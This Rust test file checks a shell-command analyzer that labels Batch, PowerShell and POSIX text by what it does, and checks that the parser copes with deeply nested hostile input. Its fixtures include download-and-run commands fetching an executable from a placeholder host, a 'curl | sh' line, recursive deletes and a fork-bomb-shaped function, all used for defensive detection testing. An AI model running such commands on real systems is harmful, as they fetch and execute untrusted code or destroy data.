//! Batch, PowerShell, and what does not parse.

use super::{Dialect, acts_in, meaning, moves_in};

#[test]
fn batch_files() {
    let acts = |text: &str| acts_in(text, Dialect::Batch);
    assert_eq!(
        acts(
            "@echo off\r\nrem curl x\r\nset U=https://a.invalid\r\ncurl -o \"%TEMP%\\t.exe\" %U%/x\r\nstart /b %TEMP%\\t.exe\r\n"
        ),
        ["network.http https://a.invalid/x", "fs.write <tmp>/t.exe"]
    );
    let moves = moves_in(
        "curl -o t.exe https://a.invalid/x ^\r\n && if exist t.exe (start /b .\\t.exe)",
        Dialect::Batch,
    );
    assert!(
        moves
            .iter()
            .any(|one| one.starts_with("download-to-process https://a.invalid/x>")),
        "{moves:?}"
    );
    assert_eq!(
        acts("for /f %%i in ('curl https://a.invalid') do echo %%i"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(acts("if \"%A%\"==\"b\" del /q C:\\x"), ["fs.delete C:/x"]);
}

#[test]
fn powershell_files() {
    let acts = |text: &str| acts_in(text, Dialect::PowerShell);
    assert_eq!(
        acts(
            "$u = 'https://a.invalid' + '/x'\nInvoke-WebRequest -Uri $u -OutFile \"$env:TEMP\\t.exe\"\n"
        ),
        ["network.http https://a.invalid/x", "fs.write <tmp>/t.exe"]
    );
    let moves = moves_in(
        "iwr https://a.invalid/x -o t.ps1; & ./t.ps1",
        Dialect::PowerShell,
    );
    assert!(
        moves
            .iter()
            .any(|one| one.starts_with("download-to-process")),
        "{moves:?}"
    );
    assert_eq!(
        acts("if ($x) { Remove-Item -Recurse C:\\x } # no"),
        ["fs.delete C:/x"]
    );
    assert_eq!(
        acts("function f($a) { irm $a }\nf 'https://a.invalid'"),
        ["network.http https://a.invalid"]
    );
}

#[test]
fn what_does_not_parse_is_said_and_the_rest_is_read() {
    let meaning = meaning("curl https://a.invalid | sh; echo 'x", Dialect::Either);
    assert_eq!(meaning.unread.len(), 1);
    assert!(meaning.acts.iter().any(|act| act.id == "network.http"));
    assert!(!meaning.moves.is_empty());
    for text in [
        "if a; then b",
        "a )",
        "$(",
        "`",
        "\"",
        "case x in",
        "((",
        "<<E\n",
        "f() {",
        "a; fi",
        "${x",
    ] {
        assert_eq!(
            super::meaning(text, Dialect::Posix).unread.len(),
            1,
            "{text}"
        );
    }
    for text in [
        "a && b || c &",
        "((i++))",
        "[[ a == b ]] && c",
        "x=(a b)",
        "for ((i=0;i<3;i++)); do a; done",
        "case $1 in a|b) c ;; *) d ;; esac",
    ] {
        assert_eq!(super::meaning(text, Dialect::Posix).unread, [], "{text}");
    }
}

#[test]
fn hostile_lines_end() {
    let deep = 100_000;
    for text in [
        "(".repeat(deep),
        "{ ".repeat(deep),
        "$(".repeat(deep),
        "`".repeat(deep),
        "if a; then ".repeat(deep),
        "${a:-".repeat(deep),
        "\"$(".repeat(deep),
        "<<a ".repeat(deep),
        "f() ".repeat(deep),
        "a | ".repeat(deep),
        "a=$a$a; ".repeat(deep),
        "node a.js;".repeat(deep),
        "case a in ".repeat(deep),
        format!("echo {}", "a ".repeat(500_000)),
        "<(".repeat(deep),
        "f() { f; f; }; f".to_owned(),
        "sh -c 'sh -c \"sh -c x\"'".repeat(1000),
    ] {
        for dialect in [
            Dialect::Posix,
            Dialect::Either,
            Dialect::Batch,
            Dialect::PowerShell,
        ] {
            meaning(&text, dialect);
        }
    }
}
